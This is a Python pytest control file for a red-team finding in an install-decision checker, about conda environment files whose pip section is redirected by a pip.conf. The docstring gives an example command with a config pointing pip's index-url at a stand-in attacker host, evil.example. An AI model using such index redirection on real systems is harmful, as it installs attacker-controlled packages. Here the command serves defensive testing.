"""Red team 46b R46b-6 (LOW, static MISS): a conda environment file's ``pip:`` list is
installed by ``pip install``, and the kernel reads pip's config files for it
(``sources.add_implicit_sources``, sources.py:48-51: ``_pip_config(..., "install")``), so
``PIP_CONFIG_FILE=pip.conf conda env create -f env.yml`` with ``index-url =
https://evil.example/simple`` in pip.conf is refused. warden-scan calls the same line clean:
``addImplicitSources`` (src/deps/installers.ts:1966) reads pipConfigSettings only for
``request.tool === 'pip'`` (the PIP_ variables just above it also for ``request.condaPip``).

Fix (static side): read the pip config files also for ``request.condaPip``, with the
``install`` section (pipconfig.ts takes the command from ``request.command``'s last word, which
is ``create``/``update`` for conda); the vectors below go into
schema/vectors/install-decision.json. The TypeScript proof is
src/deps/pipconfig.redteam46b.spec.ts (FAILS today); this file is the kernel control.
"""

import json
from pathlib import Path

import pytest
from test_install_vectors import outcome

VECTORS = json.loads((Path(__file__).parent / "redteam46b_conda_pip_conf.json").read_text())


@pytest.mark.parametrize("vector", VECTORS, ids=[v["name"] for v in VECTORS])
def test_r46b_6_control_the_kernel_refuses(vector, tmp_path, monkeypatch):
    assert outcome(vector, tmp_path, monkeypatch) == vector["expect"]
